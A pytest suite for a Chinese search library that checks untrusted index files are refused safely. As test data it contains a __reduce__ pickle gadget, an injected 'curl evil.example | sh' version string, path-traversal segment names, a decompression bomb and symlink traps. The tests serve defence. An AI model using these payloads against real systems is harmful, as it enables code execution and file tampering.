"""An index from a stranger: nothing in it is run, nothing outside its folder is touched, only our errors come out."""

from __future__ import annotations

import json
import os
import pickle
import shutil
import socket
import sys
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from whoosh.fields import TEXT, Schema
from whoosh.filedb.filestore import FileStorage
from whoosh.query import Term

import cnsearch
from cnsearch import Article
from cnsearch.analysis.analyzer import ChineseAnalyzer
from cnsearch.analysis.userdict import UserDictionary
from cnsearch.engine.commit.toc import decode_toc, encode_toc
from cnsearch.store.schema import ArticleSchema
from cnsearch.store.whoosh_view import whoosh_index

ARTICLES = [Article(id=f"{n}.md", title=f"第{n}篇", paragraphs=("上海数字化转型", f"编号{n}")) for n in range(4)]
REFUSED = (cnsearch.CorruptIndexError, cnsearch.IndexFormatError)


@pytest.fixture
def path(tmp_path: Path) -> Path:
    with cnsearch.open_index(tmp_path / "index", create=True) as index:
        index.add(ARTICLES)
        index.delete("0.md")
    return tmp_path / "index"


def toc_of(path: Path) -> Path:
    (toc,) = path.glob("*.toc")
    return toc


def rewrite(path: Path, change: Callable[[dict[str, Any]], object]) -> None:
    """Change the table of contents, and give it the right checksum."""
    toc = json.loads(toc_of(path).read_text(encoding="utf-8"))
    del toc["checksum"]
    changed = change(toc)
    seal(path, json.dumps(toc if changed is None else changed))


def seal(path: Path, text: str) -> None:
    body = text.encode("utf-8", "surrogatepass")[:-1]
    toc_of(path).write_bytes(body + f',"checksum":"{zlib.crc32(body):08x}"}}\n'.encode())


def use(path: Path) -> None:
    """Everything that reads an index, and what writes to it."""
    with cnsearch.open_index(path) as index:
        index.search("数字化", facets=("source", "category", "year"))
        index.stats()
        index.get("1.md")
        index.delete("2.md")


class _Bomb:
    def __init__(self, victim: Path) -> None:
        self._victim = victim

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self._victim),)


@pytest.fixture
def old_index() -> Iterator[Callable[..., None]]:
    """Make an index with a pickled table of contents, as this program once wrote it."""
    then = ModuleType("cnsearch.schema")  # where the class of the schema was, which was one of Whoosh's then
    then.ArticleSchema = type("ArticleSchema", (Schema,), {"__module__": then.__name__})  # type: ignore[attr-defined]

    def make(folder: Path, *, bomb: Path | None = None) -> None:
        schema = then.ArticleSchema(text=TEXT)
        if bomb is not None:
            schema.bomb = _Bomb(bomb)
        folder.mkdir()
        FileStorage(str(folder)).create_index(schema)

    with pytest.MonkeyPatch.context() as patch:
        patch.setitem(sys.modules, then.__name__, then)
        yield make


# Pickles


def test_an_old_index_is_refused_unread_and_replaced_by_a_rebuild(
    tmp_path: Path, old_index: Callable[..., None]
) -> None:
    folder, victim = tmp_path / "index", tmp_path / "victim"
    old_index(folder, bomb=victim)
    (toc,) = folder.glob("_MAIN_*.toc")
    with pytest.raises(cnsearch.IndexFormatError) as caught:
        cnsearch.open_index(folder)
    assert "earlier version" in str(caught.value)
    assert "rebuild_index" in caught.value.hint
    for attempt in (lambda: cnsearch.open_index(folder, create=True), lambda: cnsearch.rebuild_index(folder)):
        with pytest.raises(cnsearch.IndexFormatError, match="earlier version"):
            attempt()
    assert toc.exists()
    (tmp_path / "posts").mkdir()
    (tmp_path / "posts/a.md").write_text("江豚", encoding="utf-8")
    index, report = cnsearch.rebuild_index(folder, tmp_path / "posts")
    with index:
        assert (report.added, [hit.id for hit in index.search("江豚")]) == (1, ["a.md"])
    assert not toc.exists()
    assert not victim.exists()


def test_that_the_pickle_would_have_done_it(tmp_path: Path, old_index: Callable[..., None]) -> None:
    """The bomb of the test above goes off when Whoosh opens the index."""
    folder, victim = tmp_path / "index", tmp_path / "victim"
    old_index(folder, bomb=victim)
    FileStorage(str(folder)).open_index()
    assert victim.is_dir()


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # Whoosh leaves the file open
def test_nothing_is_unpickled(
    path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, old_index: Callable[..., None]
) -> None:
    def refuse(*args: object, **more: object) -> None:
        raise AssertionError("something was unpickled")

    for name in ("load", "loads", "Unpickler"):
        monkeypatch.setattr(pickle, name, refuse)
    use(path)
    index, _ = cnsearch.rebuild_index(path, _posts(tmp_path), jobs=1)
    with index, whoosh_index(path).searcher() as searcher:
        assert [hit["id"] for hit in searcher.search(Term("body", "江豚"))] == ["a.md"]
    old_index(tmp_path / "old")
    with pytest.raises(AssertionError, match="unpickled"):
        FileStorage(str(tmp_path / "old")).open_index()


def _posts(tmp_path: Path) -> Path:
    (tmp_path / "posts").mkdir()
    (tmp_path / "posts/a.md").write_text("江豚", encoding="utf-8")
    return tmp_path / "posts"


# Tables of contents with a right checksum and wrong content

ANYTHING = [None, True, -1, 1.5, 2**60, 10**300, "", "x", "../x", [], [[]], {}, {"x": 1}, "\ud800", "上" * 1000]


def _paths_of(value: Any, here: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The places in a JSON value: all keys and items."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [here, *(place for key, inner in items for place in _paths_of(inner, (*here, key)))]


def test_every_value_of_the_table_of_contents_replaced_by_anything(path: Path) -> None:
    whole = json.loads(toc_of(path).read_text(encoding="utf-8"))
    del whole["checksum"]
    segments = {segment["id"] for segment in whole["segments"]}
    places = _paths_of(whole)
    assert len(places) > 15
    refused = 0
    for place in places:
        for value in [*ANYTHING, ...]:
            toc = json.loads(json.dumps(whole))
            if not place:
                if value is ...:
                    continue
                toc = value
            else:
                home = toc
                for key in place[:-1]:
                    home = home[key]
                if value is ...:
                    del home[place[-1]]
                else:
                    home[place[-1]] = value
            text = json.dumps(toc)
            if toc == whole or not text.endswith(("}", "]")):
                continue
            seal(path, text)
            try:
                cnsearch.open_index(path).close()
            except REFUSED:
                refused += 1
            else:
                assert _is_harmless(place, value), (place, value)
    assert refused > 150
    assert {segment["id"] for segment in whole["segments"]} == segments


def _is_harmless(place: tuple[Any, ...], value: Any) -> bool:
    """Nothing deleted; no segments; another version of the engine, which is refused when it is used."""
    return (
        (place[-1] == "deleted" and value == "")
        or (place == ("segments",) and value == [])
        or (place == ("segments", 0) and value is ...)
        or (place[-1] in ("version", "dictionary") and "identity" in place and isinstance(value, str))
        or place[-1] == "analysis"
        or (place == ("identity",) and value is ...)  # as in what was written before indexes had one
    )


@pytest.mark.parametrize(
    "text",
    [
        '{"format":1,"generation":' + "[" * 200_000 + "}",
        '{"format":1,"x":' + '{"a":' * 200_000 + "}",
        '{"format":' + "9" * 5000 + "}",
        '{"format":1e999}',
        '{"format":NaN}',
        '{"format":1,"generation":2,"schema":{},"segments":0}',
        "[]}",
        "}",
        '{"format":1,"generation":2' + "\0" * 100 + "}",
        '"\ud800}',
    ],
    ids=lambda text: text[:20],
)
def test_tables_of_contents_that_are_hard_to_read(path: Path, text: str) -> None:
    seal(path, text)
    with pytest.raises(REFUSED):
        cnsearch.open_index(path)


def test_a_newer_format_is_said_to_be_newer(path: Path) -> None:
    rewrite(path, lambda toc: {"format": 2, "whatever": "else"})
    with pytest.raises(cnsearch.IndexFormatError, match=r"has format 2, this version reads up to 1\. Update") as caught:
        cnsearch.open_index(path)
    assert (caught.value.found, caught.value.expected) == (2, 1)


@pytest.mark.parametrize("name", ["../../x", "/etc/passwd", "x\0y", "MAIN", "", "0123456789abcdef", "a" * 16 + "/../x"])
def test_segment_names_stay_in_the_folder(path: Path, name: str) -> None:
    rewrite(path, lambda toc: toc["segments"][0].update(id=name))
    with pytest.raises(cnsearch.CorruptIndexError):
        cnsearch.open_index(path)


def test_a_bitmap_that_inflates_to_a_gigabyte(path: Path) -> None:
    import base64

    bomb = base64.b64encode(zlib.compress(bytes(1 << 24))).decode()
    rewrite(path, lambda toc: toc["segments"][0].update(deleted=bomb))
    with pytest.raises(cnsearch.CorruptIndexError, match="has not 1 bytes"):
        cnsearch.open_index(path)


@pytest.mark.parametrize("count", [2**31 - 1, 2**31, 2**60])
def test_more_documents_than_the_file_has(path: Path, count: int) -> None:
    rewrite(path, lambda toc: toc["segments"][0].update(doc_count=count, deleted=""))
    with pytest.raises(cnsearch.CorruptIndexError):
        cnsearch.open_index(path)


def test_the_hint_is_not_written_by_a_stranger(path: Path) -> None:
    """It says "pip install ENGINE==VERSION"."""
    for part, text in (("engine", "evil"), ("version", "1; curl evil.example | sh")):
        rewrite(path, lambda toc: toc["schema"]["analyzer"]["identity"].update({part: text}))  # noqa: B023
        with pytest.raises(cnsearch.CorruptIndexError):
            cnsearch.open_index(path)


def test_a_user_dictionary_that_does_not_fit_its_digest(path: Path) -> None:
    rewrite(path, lambda toc: toc["schema"]["analyzer"].update(user_dictionary="江豚\n"))
    with pytest.raises(cnsearch.CorruptIndexError, match="user dictionary"):
        cnsearch.open_index(path)


# Things that are no regular files


def _pipe(path: Path) -> None:
    os.mkfifo(path)


def _device(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _socket(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as opened:
        opened.bind(str(path))


@pytest.mark.skipif(os.name != "posix", reason="no such files")
@pytest.mark.parametrize("what", ["*.toc", "*.cnp"])
@pytest.mark.parametrize("make", [_pipe, _device, _socket, Path.mkdir])
def test_files_that_are_no_files(path: Path, what: str, make: Callable[[Path], object], monkeypatch: Any) -> None:
    monkeypatch.chdir(path)  # the path of a socket is short
    (file,) = Path().glob(what)
    file.unlink()
    make(file)
    with pytest.raises((*REFUSED, OSError)) as caught:
        cnsearch.open_index(path)
    assert isinstance(caught.value, cnsearch.CorruptIndexError) or make is _socket


@pytest.mark.skipif(os.name != "posix", reason="no links")
def test_links_laid_for_the_writer(path: Path, tmp_path: Path) -> None:
    """Whoosh would write through the first, and empty the folder that the second points to."""
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "file").write_text("kept")
    generation = int(toc_of(path).stem.partition("_")[2])
    for later in range(1, 4):
        (path / f"commit_{generation + later}.toc.tmp").symlink_to(precious / "file")
    (path / "MAIN.tmp").symlink_to(precious)
    use(path)
    assert (precious / "file").read_text() == "kept"
    lock = path / "MAIN_WRITELOCK"
    lock.unlink()
    lock.symlink_to(tmp_path / "made")
    with pytest.raises(cnsearch.CorruptIndexError, match="regular"):
        use(path)
    assert not (tmp_path / "made").exists()


def test_foreign_files_are_never_removed(path: Path, tmp_path: Path) -> None:
    """Whoosh removes whatever begins like a segment."""
    shutil.copytree(path, tmp_path / "copy")
    for name in ("MAIN_notes.txt", "commit_x.toc", "commit_1.toc.bak", "_MAIN_7.toc", "MAIN_abc.cnp", "readme.md"):
        (path / name).write_text("mine")
    FileStorage(str(path)).create_index(Schema(text=TEXT), "OTHER")
    before = {file.name for file in path.iterdir()}
    use(path)
    cnsearch.rebuild_index(path, _posts(tmp_path))[0].close()
    lost = before - {file.name for file in path.iterdir()}
    assert lost == {file.name for file in (tmp_path / "copy").glob("*.*")}


def test_no_commit_is_too_large_to_be_read(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    size = toc_of(path).stat().st_size
    monkeypatch.setattr("cnsearch.engine.commit.commits.MAX_TOC_BYTES", size + 40)
    before = {file.name for file in path.iterdir()}
    with cnsearch.open_index(path) as index:
        with pytest.raises(cnsearch.IndexUnusableError, match="would have"):
            index.add(Article(id="x", title="题"))
        assert {file.name for file in path.iterdir()} == before
        monkeypatch.setattr("cnsearch.engine.commit.commits.MAX_TOC_BYTES", size - 1)
        with pytest.raises(cnsearch.CorruptIndexError, match="above"):
            cnsearch.open_index(path)


# The table of contents itself


@settings(max_examples=50)
@given(st.lists(st.sampled_from(["上海", "江豚 5", "c++", "s-300 12", "# 井", "　全角 "])), st.integers(0, 10**17))
def test_round_trip(lines: list[str], generation: int) -> None:
    words = UserDictionary.parse("\n".join(lines))
    schema = ArticleSchema(ChineseAnalyzer(user_dictionary=words))
    data = encode_toc(generation, schema.to_dict(), [])
    commit = decode_toc(data, generation, path="x")
    again = ArticleSchema.from_dict(commit.state, path="x")
    assert commit.segments == []
    assert again.to_dict() == schema.to_dict()
    assert again.analyzer == schema.analyzer
    assert again.analyzer.user_dictionary == words


@settings(max_examples=200)
@given(st.data())
def test_a_damaged_table_of_contents(data: st.DataObject) -> None:
    whole = encode_toc(3, ArticleSchema(ChineseAnalyzer()).to_dict(), [])
    at = data.draw(st.integers(0, len(whole) - 1))
    damaged = bytearray(whole)
    damaged[at] ^= data.draw(st.integers(1, 255))
    for wrong in (bytes(damaged), whole[:at], whole + b"\n", whole[at:] if at else b""):
        with pytest.raises(REFUSED):
            decode_toc(wrong, 3, path="x")
    with pytest.raises(cnsearch.CorruptIndexError, match="commit 3"):
        decode_toc(whole, 4, path="x")
